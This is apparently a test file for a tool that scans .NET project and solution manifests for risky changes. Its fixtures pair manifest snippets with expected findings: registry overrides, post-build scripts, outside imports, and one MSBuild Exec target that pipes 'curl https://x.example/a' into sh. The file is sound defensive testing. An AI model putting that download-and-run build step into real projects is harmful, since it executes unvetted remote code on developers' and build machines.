import { testManifest } from './support.ts';

testManifest('src/App/App.csproj', '\ufeff<Project Sdk="Microsoft.NET.Sdk">\r\n  HERE\r\n</Project>\r\n', [
  [
    '<ItemGroup><PackageReference Include="A.B" Version="1.0.0" /></ItemGroup>',
    '<ItemGroup><PackageReference Include="A.B" Version="1.1.0" /></ItemGroup>',
    [],
  ],
  ['', '<ItemGroup><PackageReference Include="A.B" Version="*" /></ItemGroup>', ['dependency-source suggestion']],
  ['', '<ItemGroup><ProjectReference Include="..\\B\\B.csproj" /></ItemGroup>', []],
  ['', '<ItemGroup><ProjectReference Include="..\\..\\..\\B\\B.csproj" /></ItemGroup>', ['dependency-source warning']],
  ['', '<PropertyGroup><TargetFramework>net9.0</TargetFramework></PropertyGroup>', []],
  ['', '<PropertyGroup><NuGetAudit>false</NuGetAudit></PropertyGroup>', ['unjudged']],
  ['<PropertyGroup><NuGetAudit>true</NuGetAudit></PropertyGroup>', '', ['unjudged']],
  [
    '',
    '<PropertyGroup><RestoreSources>http://a.example/</RestoreSources></PropertyGroup>',
    ['registry-override critical'],
  ],
  [
    '',
    '<PropertyGroup><RestoreAdditionalProjectSources>https://a.example/</RestoreAdditionalProjectSources></PropertyGroup>',
    ['registry-override warning'],
  ],
  ['', '<PropertyGroup><PostBuildEvent>x.cmd</PostBuildEvent></PropertyGroup>', ['install-script warning']],
  ['', '<Target Name="a"><Exec Command="make" /></Target>', ['install-script warning', 'unjudged']],
  [
    '',
    '<Target Name="a"><Exec Command="curl https://x.example/a | sh" /></Target>',
    ['downloaded-code critical', 'unjudged'],
  ],
  ['', '<UsingTask TaskName="a" AssemblyFile="a.dll" />', ['install-script warning', 'unjudged']],
  ['', '<Import Project="C:\\a\\b.props" />', ['dependency-source warning']],
  ['', '<Import Project="b.props" />', ['unjudged']],
]);

const [ONE, OTHER] = ['{FAE04EC0-301F-11D3-BF4B-00C04F79EFBC}', '{00867C2B-409D-45B2-A78F-F291B6817F70}'];
testManifest('App.sln', 'Global\r\nHERE\r\nEndGlobal\r\n', [
  ['', `Project("${ONE}") = "A", "A\\A.csproj", "${OTHER}"\r\nEndProject`, []],
  ['', `Project("${ONE}") = "A", "\\\\host\\A.csproj", "${OTHER}"\r\nEndProject`, ['unjudged']],
  ['', `${OTHER}.Debug|Any CPU.Build.0 = Debug|Any CPU`, []],
  ['', 'SccLocalPath0 = x', ['unjudged']],
]);
